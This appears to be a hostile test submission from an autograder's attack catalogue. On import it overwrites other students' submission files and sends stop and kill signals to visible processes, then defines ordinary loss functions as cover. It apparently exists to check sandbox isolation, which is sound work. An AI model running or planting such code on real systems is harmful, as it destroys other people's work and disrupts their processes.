"""Hostile submission (gradverify attack catalogue): break classmates' files and stop or kill their processes.

If it sees more than 30 processes it is evidently outside any sandbox: then it only
reports what it could have killed (it does not take the machine down).
"""

import glob
import os
import signal

import numpy as np

PATTERNS = ["/proc/[0-9]*/root/sandbox/code/submission.py", "/tmp/gradverify-sandbox-*/code/submission.py",
            "/var/tmp/*/classmate*.py", "/var/tmp/*/*.py", "/tmp/*/*.py", "/autograder/submission/*.py"]
BROKEN = "raise SystemExit('sabotaged by gvattack')\n"


def _attack():
    me = os.path.realpath(__file__)
    for path in {p for pattern in PATTERNS for p in glob.glob(pattern)}:
        try:
            if os.path.realpath(path) == me:
                continue
            with open(path, "r+", encoding="utf-8") as handle:
                if "gradverify attack catalogue" in handle.read():
                    continue
                handle.seek(0)
                handle.write(BROKEN)
                handle.truncate()
            print("ATTACK-SUCCEEDED: sabotaged", path)
        except (OSError, UnicodeDecodeError):
            pass
    others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (os.getpid(), os.getppid())]
    if len(others) > 30:
        print(f"ATTACK-SUCCEEDED: sees {len(others)} other processes and could signal them")
        return
    for pid in others:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                print("signalled", pid)
            except OSError:
                pass


_attack()


def loss(name, y_pred, y_true):
    return float(np.mean((y_pred - y_true) ** 2))


def loss_backward(name, y_pred, y_true):
    return 2.0 * (y_pred - y_true) / y_pred.size
